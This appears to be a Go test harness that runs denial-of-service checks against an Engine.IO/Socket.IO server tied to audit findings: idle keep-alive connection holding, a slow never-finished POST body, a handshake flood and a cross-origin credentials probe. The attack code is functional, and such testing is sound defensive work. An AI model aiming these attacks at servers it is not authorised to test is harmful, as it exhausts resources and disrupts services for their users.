package hostile

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// dialConcurrency bounds how many connections an attack opens at once.
const dialConcurrency = 64

// hostOf returns base's host:port.
func hostOf(base string) (string, error) {
	u, err := url.Parse(base)
	if err != nil {
		return "", fmt.Errorf("hostile: parse URL %q: %w", base, err)
	}
	return u.Host, nil
}

// IdleKeepAlive is finding 1: Conns keep-alive connections each send one
// GET /healthz and then idle. A server with an idle timeout closes them;
// one with a per-IP connection limit refuses the extra ones. The attack
// ends when every connection is closed or Hold has passed.
type IdleKeepAlive struct {
	Conns int
	Hold  time.Duration
}

// Run runs the attack against base ("http://127.0.0.1:2567").
func (a IdleKeepAlive) Run(ctx context.Context, base string) (Result, error) {
	host, err := hostOf(base)
	if err != nil {
		return Result{}, err
	}
	t := newTally("idle-keepalive")
	ctx, cancel := context.WithTimeout(ctx, a.Hold)
	defer cancel()
	t.each(ctx, a.Conns, func(release func()) {
		conn, br, ok := t.httpRequest(ctx, host, "GET /healthz HTTP/1.1\r\nHost: "+host+"\r\n\r\n", release)
		if !ok {
			return
		}
		defer conn.Close()
		t.waitClosed(ctx, conn, br)
	})
	return t.result(), nil
}

// each counts n attempts, running one in a goroutine for each, at most
// dialConcurrency of them between their start and their call of release
// (which each must call once); it starts no more once ctx is done and
// returns when all have returned.
func (t *tally) each(ctx context.Context, n int, one func(release func())) {
	var wg sync.WaitGroup
	sem := make(chan struct{}, dialConcurrency)
	for range n {
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
		t.attempt()
		wg.Add(1)
		go func() {
			defer wg.Done()
			one(func() { <-sem })
		}()
	}
	wg.Wait()
}

// httpRequest dials host, writes req and reads the answer's status line
// and headers (and a small body). A 2xx answer counts as accepted; others
// as refused with their status, a close before any answer as refused
// "eof". release runs once the request is answered or failed.
func (t *tally) httpRequest(ctx context.Context, host, req string, release func()) (net.Conn, *bufio.Reader, bool) {
	defer release()
	d := net.Dialer{Timeout: 10 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", host)
	if err != nil {
		t.failed()
		return nil, nil, false
	}
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	_ = conn.SetDeadline(time.Now().Add(15 * time.Second))
	if _, err := io.WriteString(conn, req); err != nil {
		t.refusedCode("eof")
		conn.Close()
		return nil, nil, false
	}
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		if ctx.Err() != nil {
			t.failed()
		} else {
			t.refusedCode("eof")
		}
		conn.Close()
		return nil, nil, false
	}
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
	resp.Body.Close()
	if resp.StatusCode >= 300 {
		t.refusedStatus(resp.StatusCode)
		conn.Close()
		return nil, nil, false
	}
	t.accepted()
	_ = conn.SetDeadline(time.Time{})
	return conn, br, true
}

// waitClosed blocks until the server closes conn (counted as closed) or
// ctx ends (counted as open).
func (t *tally) waitClosed(ctx context.Context, conn net.Conn, br *bufio.Reader) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, br) // returns at EOF, reset or conn.Close
	}()
	select {
	case <-done:
		t.closed()
	case <-ctx.Done():
		conn.Close()
		<-done
		t.open()
	}
}

// handshake opens a long-polling Engine.IO session and returns its sid;
// refused is the HTTP status of a refusal (0 when it failed otherwise).
func handshake(ctx context.Context, hc *http.Client, base string, header http.Header) (sid string, refused int, err error) {
	u, err := engineURL(base, "polling", "")
	if err != nil {
		return "", 0, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u.String(), nil)
	if err != nil {
		return "", 0, fmt.Errorf("hostile: handshake request: %w", err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	resp, err := hc.Do(req)
	if err != nil {
		return "", 0, fmt.Errorf("hostile: handshake: %w", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	if err != nil {
		return "", 0, fmt.Errorf("hostile: read handshake: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		return "", resp.StatusCode, fmt.Errorf("hostile: handshake status %d", resp.StatusCode)
	}
	s := string(body)
	if !strings.HasPrefix(s, "0") {
		return "", 0, fmt.Errorf("hostile: handshake answer %q is not an open packet", s)
	}
	var open struct {
		SID string `json:"sid"`
	}
	if err := json.Unmarshal([]byte(s[1:]), &open); err != nil || open.SID == "" {
		return "", 0, fmt.Errorf("hostile: handshake answer %q has no sid", s)
	}
	return open.SID, 0, nil
}

// SlowPost is finding 1's second half: Conns long-polling sessions each
// POST a body of BodySize bytes, one byte every Drip. A server with a body
// deadline answers or closes them; the attack ends when all are closed or
// Hold has passed.
type SlowPost struct {
	Conns    int
	Drip     time.Duration
	BodySize int
	Hold     time.Duration
}

// Run runs the attack against base.
func (a SlowPost) Run(ctx context.Context, base string) (Result, error) {
	host, err := hostOf(base)
	if err != nil {
		return Result{}, err
	}
	if a.BodySize <= 0 {
		a.BodySize = 1000
	}
	t := newTally("slow-post")
	ctx, cancel := context.WithTimeout(ctx, a.Hold)
	defer cancel()
	hc := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: dialConcurrency}}
	defer hc.CloseIdleConnections()
	t.each(ctx, a.Conns, func(release func()) { a.one(ctx, t, hc, host, base, release) })
	return t.result(), nil
}

func (a SlowPost) one(ctx context.Context, t *tally, hc *http.Client, host, base string, release func()) {
	sid, status, err := handshake(ctx, hc, base, nil)
	if err != nil {
		release()
		if status != 0 {
			t.refusedStatus(status)
		} else {
			t.failed()
		}
		return
	}
	u, _ := engineURL(base, "polling", sid)
	d := net.Dialer{Timeout: 10 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", host)
	release()
	if err != nil {
		t.failed()
		return
	}
	defer conn.Close()
	hdr := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain;charset=UTF-8\r\nContent-Length: %d\r\n\r\n",
		u.RequestURI(), host, a.BodySize)
	if _, err := io.WriteString(conn, hdr); err != nil {
		t.refusedCode("eof")
		return
	}
	t.accepted()
	// the server's answer (a status) or close ends the attack on this conn
	answered := make(chan int, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answered <- 0
			return
		}
		resp.Body.Close()
		answered <- resp.StatusCode
	}()
	tick := time.NewTicker(a.Drip)
	defer tick.Stop()
	sent := 0
	for {
		select {
		case st := <-answered:
			t.closed()
			if st != 0 {
				t.add(func(r *Result) { r.Statuses[st]++ })
			} else {
				t.code("eof")
			}
			return
		case <-ctx.Done():
			t.open()
			conn.Close()
			<-answered
			return
		case <-tick.C:
			if sent >= a.BodySize-1 { // never finish the body
				continue
			}
			sent++
			if _, err := conn.Write([]byte{'4'}); err != nil {
				conn.Close()
			}
		}
	}
}

// HandshakeFlood is finding 5: Count long-polling handshakes from one IP,
// never continued. A server with a per-IP handshake rate or session limit
// refuses the extra ones with an HTTP status.
type HandshakeFlood struct {
	Count int
}

// Run runs the attack against base.
func (a HandshakeFlood) Run(ctx context.Context, base string) (Result, error) {
	t := newTally("handshake-flood")
	hc := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: dialConcurrency}, Timeout: 15 * time.Second}
	defer hc.CloseIdleConnections()
	t.each(ctx, a.Count, func(release func()) {
		defer release()
		_, status, err := handshake(ctx, hc, base, nil)
		switch {
		case err == nil:
			t.accepted()
		case status != 0:
			t.refusedStatus(status)
		default:
			t.failed()
		}
	})
	return t.result(), nil
}

// OriginProbe is finding 9: what the server answers a page from Origin.
type OriginProbe struct {
	Origin string
	// PollingStatus is the status of a long-polling handshake, and
	// AllowOrigin / AllowCredentials its Access-Control-Allow-* headers.
	PollingStatus    int
	AllowOrigin      string
	AllowCredentials string
	// WebSocketStatus is the status of a WebSocket upgrade (101: accepted).
	WebSocketStatus int
}

// CrossOriginReadable reports whether a browser page of p.Origin could
// read the polling answer with credentials: what a safe default refuses
// for a foreign or null origin.
func (p OriginProbe) CrossOriginReadable() bool {
	return p.PollingStatus == http.StatusOK && p.AllowOrigin != "" &&
		(p.AllowOrigin == p.Origin || p.AllowOrigin == "*") && strings.EqualFold(p.AllowCredentials, "true")
}

// ProbeOrigin sends a polling handshake and a WebSocket upgrade with
// Origin origin.
func ProbeOrigin(ctx context.Context, base, origin string) (OriginProbe, error) {
	p := OriginProbe{Origin: origin}
	u, err := engineURL(base, "polling", "")
	if err != nil {
		return p, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u.String(), nil)
	if err != nil {
		return p, fmt.Errorf("hostile: origin request: %w", err)
	}
	req.Header.Set("Origin", origin)
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{}}
	defer hc.CloseIdleConnections()
	resp, err := hc.Do(req)
	if err != nil {
		return p, fmt.Errorf("hostile: origin polling handshake: %w", err)
	}
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
	resp.Body.Close()
	p.PollingStatus = resp.StatusCode
	p.AllowOrigin = resp.Header.Get("Access-Control-Allow-Origin")
	p.AllowCredentials = resp.Header.Get("Access-Control-Allow-Credentials")
	ws, err := dialRawWS(ctx, base, dialOptions{Origin: origin})
	var refused *errUpgradeRefused
	switch {
	case err == nil:
		p.WebSocketStatus = http.StatusSwitchingProtocols
		ws.Close()
	case errors.As(err, &refused):
		p.WebSocketStatus = refused.Status
	default:
		return p, err
	}
	return p, nil
}
